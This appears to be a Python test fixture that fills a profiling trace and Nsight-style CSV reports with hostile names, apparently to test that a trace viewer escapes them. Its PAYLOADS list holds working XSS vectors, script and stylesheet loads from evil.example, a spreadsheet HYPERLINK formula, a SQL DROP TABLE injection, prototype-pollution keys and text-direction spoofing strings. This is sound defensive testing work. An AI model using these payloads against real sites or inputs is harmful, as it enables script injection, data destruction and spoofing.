"""A trace whose every name tries to become more than text, and Nsight reports with the same names.

Whatever of it ran would set `window.__pwned`.
"""

import csv
import itertools
import json

from random_traces import meta, span_lines, terminal, write_lines

CANARY = "window.__pwned=1"
RUN = f"<script>{CANARY}</script>"
PAYLOADS = [
    # What ends an element, or a comment.
    f"</script>{RUN}",
    f"</SCRIPT >{RUN}",
    f"<!--<script>{CANARY}//-->",
    f"-->{RUN}<!--",
    f"]]>{RUN}",
    f"</style>{RUN}",
    f"</title></textarea></noscript>{RUN}",
    f"</dialog></main></body></html>{RUN}",
    "</script",
    "<!-- <script>",
    # Elements that run something.
    f"<img src=x onerror={CANARY}>",
    f'"><img src=x onerror="{CANARY}">',
    f"'><img src=x onerror='{CANARY}'>",
    f"<svg onload={CANARY}>",
    f"<svg>{RUN}</svg>",
    f"<svg><animate onbegin={CANARY} attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<iframe src="javascript:parent.{CANARY}"></iframe>',
    f"<body onload={CANARY}>",
    f"<input autofocus onfocus={CANARY}>",
    f"<details open ontoggle={CANARY}>",
    f"<video><source onerror={CANARY}></video>",
    f'<math href="javascript:{CANARY}">x</math>',
    f'<a href="javascript:{CANARY}">x</a>',
    "<script src=//evil.example/x.js></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    # Addresses.
    f"javascript:{CANARY}",
    f"JaVaScRiPt:{CANARY}//",
    f"data:text/html,{RUN}",
    f"#view=gpu&sel=span:1&q=<img src=x onerror={CANARY}>",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E %00 % %zz",
    # Entities, templates, code, styles.
    f"&lt;img src=x onerror={CANARY}&gt; &#60;script&#62; &amp;",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{CANARY}')()}}}}",
    f"${{{CANARY}}} #{{{CANARY}}} <%= {CANARY} %>",
    f"`;{CANARY};`",
    f"';{CANARY};//",
    f'";{CANARY};//',
    f'\\";{CANARY};//',
    "red;background:url(https://evil.example/x)",
    "}body{display:none}",
    "'; DROP TABLE spans; --",
    # Names of what every object has.
    "__proto__",
    "constructor",
    # What hides, turns text round, or is not quite text.
    "abc\u202egnp.exe\u2066x\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "\u05e9\u05dc\u05d5\u05dd \u0639\u0627\u0644\u0645",
    "nul\0<b>\x1b[31m\x7f",
    "half a pair: \\ud800 \\uDFFF 👩\u200d🚀 e\u0301",
    f"long {'x' * 20_000}<img src=x onerror={CANARY}>",
    # Other programs' troubles.
    '=HYPERLINK("https://evil.example","x")',
    "C:\\temp\\new\\",
    f"line one\nline <b>two</b>\r\n{RUN}",
    "tab\tand \u2028 \u2029 \x85",
]


def lines():
    """Each payload as a span, an operation, a tensor, a statistic, a gradient, a storage, a device, a clock, a tag."""
    hostile = PAYLOADS[0]
    contract = {
        "gradients": "complete",
        "operations": "complete",
        "logical_memory": "partial",
        "gradient_contract": {
            "expected": [{"root": p, "key": p, "family": p} for p in PAYLOADS],
            "families": [{"family": p, "expectation": "active", "min_present": 1} for p in PAYLOADS],
        },
        "required_semantic_labels": PAYLOADS,
        "gpu_expected_semantic_labels": PAYLOADS[:20],
        "cpu_only_semantic_labels": PAYLOADS[20:],
    }
    first = meta(hostile, hostile, tags={p: p for p in PAYLOADS}, capture_contract=contract, host_name=hostile)
    first |= {"os": hostile, "cpu_model": hostile, "candle_version": hostile, "toolchain": hostile, "device": hostile}
    long = 1_000 * (len(PAYLOADS) + 2)
    root, root_end = span_lines("s0", None, f"{hostile} all", 0, long)
    region, region_end = span_lines("s1", "s0", f"{hostile} region", 10, long - 100, measured=True)
    found = [first, root, region]
    for at, text in enumerate(PAYLOADS):
        start, after = 100 + 1_000 * at, PAYLOADS[(at + 1) % len(PAYLOADS)]
        open_, close = span_lines(f"s{at + 2}", "s1", text, start, 900)
        base = {"span_id": f"s{at + 2}", "device": text, "shape": [2], "dtype": "f32"}
        storage = {**base, "kind": "memory", "storage_id": text, "tensor_id": f"in{text}", "bytes": 8 + at, "op_name": text}
        storage["category"] = "activation"
        interval = {"kind": "device_interval", "span_id": f"s{at + 2}", "device": text, "stream_id": text}
        # Each clock is a plane of its own: some are enough.
        interval["clock_id"] = PAYLOADS[at % 5]
        found += [
            open_,
            {**storage, "action": "alloc", "timestamp_ns": start + 10},
            {**base, "kind": "op", "op_name": text, "duration_ns": 50 + at, "timestamp_ns": start + 20}
            | {"inputs": [f"in{text}"], "output": f"out{text}"},
            {**base, "kind": "tensor", "tensor_id": f"out{text}", "label": text, "category": "activation"},
            {**base, "kind": "tensor_stats", "label": text, "elements": 2, "non_finite": 1, "nan": 1},
            {"kind": "gradient", "event_id": f"g{at}", "root": text, "key": text, "state": "present", "norm": 1.0},
            {"kind": "device_memory", "timestamp_ns": start + 30, "device": text, "used_bytes": 5},
            {"kind": "edge", "edge_kind": "data", "from_tensor": f"out{text}", "to_tensor": f"in{after}"},
            {**interval, "backend": text, "start_ns": start, "duration_ns": 40},
        ]
        if at % 3:
            found.append({**storage, "action": "free", "timestamp_ns": start + 400})
        found.append(close)
    return [*found, region_end, root_end, terminal(long)]


def reports(folder):
    """Each payload as a kernel, a range, a GPU and a function of the CUDA API."""
    folder.mkdir()
    names = [p.replace("\0", "") for p in PAYLOADS]

    def write(name, header, rows):
        with open(folder / name, "w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows([header, *rows])

    at = [(1_000 * i, name) for i, name in enumerate(names)]
    write(
        "x_cuda_gpu_trace.csv",
        ["Start (ns)", "Duration (ns)", "CorrId", "Device", "Ctx", "Strm", "Name"],
        [[start + 500, 100, i, name, 1, 7, name] for i, (start, name) in enumerate(at)],
    )
    write(
        "x_cuda_gpu_kern_sum.csv",
        ["Time (%)", "Total Time (ns)", "Instances", "Avg (ns)", "Med (ns)", "Min (ns)", "Max (ns)", "StdDev (ns)", "Name"],
        [[1.0, 100, 1, 100.0, 100.0, 100, 100, 0.0, name] for name in names],
    )
    write(
        "x_cuda_api_trace.csv",
        ["Start (ns)", "Duration (ns)", "Name", "Result", "CorrID", "Pid", "Tid", "T-Pri", "Thread Name"],
        [[start + 100, 50, name, 0, i, 1, 1, 20, name] for i, (start, name) in enumerate(at)],
    )
    write(
        "x_nvtx_pushpop_trace.csv",
        ["Start (ns)", "End (ns)", "Duration (ns)", "DurChild (ns)", "DurNonChild (ns)", "Name", "PID", "TID", "Lvl"]
        + ["NumChild", "RangeId", "ParentId", "RangeStack", "NameTree"],
        [
            [start, start + 900, 900, 0, 900, name, 1, 1, 0, 0, i + 1, "", f":{i + 1}", name]
            for i, (start, name) in enumerate(at)
        ],
    )


def write(path):
    """The trace, and beside it a folder of its name with the reports."""
    write_lines(path, lines())
    reports(path.with_suffix(""))


def rename(comparison, to):
    """A comparison in which every label, operation, workload and host has a payload for its name."""
    names = itertools.cycle(PAYLOADS)

    def renamed(value, key=None):
        if isinstance(value, dict):
            return {k: renamed(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [renamed(v, key) for v in value]
        free = key in {"label", "name", "dtype", "workload_id", "model_id", "config_id", "host_name", "cpu_model", "seed_policy"}
        return next(names) if free and isinstance(value, str) else value

    to.write_text(json.dumps(renamed(json.loads(comparison.read_text(encoding="utf-8")))), encoding="utf-8")
